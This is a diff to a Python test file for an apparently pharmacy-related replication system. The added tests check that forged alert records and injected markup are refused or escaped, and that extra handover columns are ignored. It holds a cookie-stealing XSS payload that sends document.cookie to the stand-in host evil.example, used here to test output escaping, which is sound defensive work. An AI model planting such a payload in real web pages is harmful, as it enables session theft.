@@ -53,8 +53,15 @@ from nearfab.common.canonical import canonical_json
 from nearfab.common.errors import Refused, ValidationFailed
 from nearfab.identity import AuditAction, AuditEntry, audit, system_actor
 from nearfab.identity import record_hash as hash_of_record
-from nearfab.orders.models import Order, Patient, PatientIdentity, Prescription
+from nearfab.orders.models import (
+    Order,
+    Patient,
+    PatientIdentifierHash,
+    PatientIdentity,
+    Prescription,
+)
 from nearfab.quality.models import ExceptionalRelease
+from nearfab.replication import site_alerts
 from nearfab.replication.logic import Record, record_hash, record_id
 from nearfab.replication.models import InboxRecord
 from nearfab.web.server import create_web_app
@@ -191,6 +198,14 @@ def test_a_patient_or_prescription_id_held_here_as_another_is_refused_before_wri
     with pytest.raises(Refused) as by_rx:
         take(site, same_rx)
     assert (by_rx.value.code, by_rx.value.field) == ("prescription_held", "prescription.id")
+
+    with site.uow() as uow:
+        held_hash = uow.session.scalars(select(PatientIdentifierHash.id)).first()
+    same_hash = copy.deepcopy(body)
+    same_hash["identifier_hashes"][0]["id"] = held_hash
+    with pytest.raises(Refused) as by_hash:
+        take(site, same_hash)
+    assert (by_hash.value.code, by_hash.value.field) == ("hash_held", "identifier_hashes[0].id")
     assert (count(site, Patient), count(site, Prescription), count(site, Order)) == before
 
 
@@ -594,3 +609,74 @@ def test_an_order_to_another_version_of_the_code_than_the_one_effective_here_is_
         "order.master_file_id",
     )
     assert order_columns(site, body["order_id"]) is None
+
+
+XSS = '<script>document.location="https://evil.example/?"+document.cookie</script>'
+
+
+def test_alert_records_about_another_sites_alert_or_carrying_markup_are_harmless(
+    nodes: tuple[App, App],
+) -> None:
+    """St Thomas' node, tampered with (or the broker), sends its alert's first state as
+    Manchester's alert, and its second with markup in the message, the pack serial and the
+    alert id. By design: a record about another site's alert than its sender's is shown to
+    nobody (not to Manchester's reader either), and the control's page escapes what a site
+    sends; the API hands it back as data."""
+    site, control = nodes
+    alert_id = raise_and_follow(site)
+    manchester = fh.site_id(site, "MAN-PH")
+    seen: list[str] = []
+
+    def forge(wire: dict[str, Any]) -> None:
+        if wire["kind"] != "alert":
+            return
+        payload = json.loads(wire["payload"])
+        if not seen:
+            payload["site_id"] = manchester
+        else:
+            payload.update(message=XSS, serial=XSS, alert_id=f'{alert_id}"><b>x</b>')
+        seen.append(wire["id"])
+        wire["payload"] = canonical(payload).decode()
+
+    deliver_tampered(site, control, forge)
+    assert len(seen) == 2
+    fh.site_user(control, "ph-man", "pharmacist", "MAN-PH")
+    with control.uow() as uow:
+        for reader in ("qp", "ph-man"):
+            rows = site_alerts(uow, fh.actor(control, reader))
+            assert all(r["site_id"] != manchester for r in rows)
+    (marked,) = [r for r in site_alerts_of(control) if r["alert_id"].startswith(alert_id)]
+    assert marked["message"] == XSS
+    page = fh.web_login(control, "qp").get("/custody/alerts")
+    assert page.status_code == 200
+    assert "<script>document.location" not in page.text
+    assert "&lt;script&gt;document.location" in page.text
+    assert '"><b>x</b>' not in page.text
+
+
+def site_alerts_of(control: App) -> list[dict[str, Any]]:
+    with control.uow() as uow:
+        return site_alerts(uow, fh.actor(control, "qp"))
+
+
+def test_extra_columns_in_a_handover_are_ignored_and_the_sites_lock_starts_again(
+    nodes: tuple[App, App],
+) -> None:
+    """By design: only the model's columns are read (`_load`); a key the order table does not
+    have, or the control's `row_version`, changes nothing at the site."""
+    site, control = nodes
+    body = handover_row(control, order_for(control, "GSTT-PH"))
+    extra = copy.deepcopy(body)
+    extra["order"].update(row_version=999, qp_released=True, status_note="released")
+    extra["patient"]["is_admin"] = True
+    with site.uow() as uow:
+        site.orders.take_handed_over(
+            uow, system_actor("replication"), extra, site_id=repl(site).site_id, note="t"
+        )
+        uow.commit()
+    held = order_columns(site, body["order_id"])
+    assert held == order_columns(control, body["order_id"])
+    with site.uow() as uow:
+        order = uow.session.get(Order, body["order_id"])
+        assert order is not None and order.row_version != 999
+        assert not hasattr(order, "qp_released")
